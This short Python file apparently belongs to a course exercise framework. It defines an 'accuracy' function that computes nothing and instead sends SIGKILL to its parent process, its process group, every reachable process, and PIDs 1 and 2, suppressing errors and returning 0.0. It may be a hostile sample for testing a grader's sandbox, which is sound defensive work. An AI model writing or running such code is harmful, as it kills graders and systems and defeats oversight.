# Signals to the parent, the group, and everybody.
import os
import signal

from course_lib.exercises import exercise


@exercise
def accuracy(batches):
    for process in (os.getppid(), 0, -1, 1, 2):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
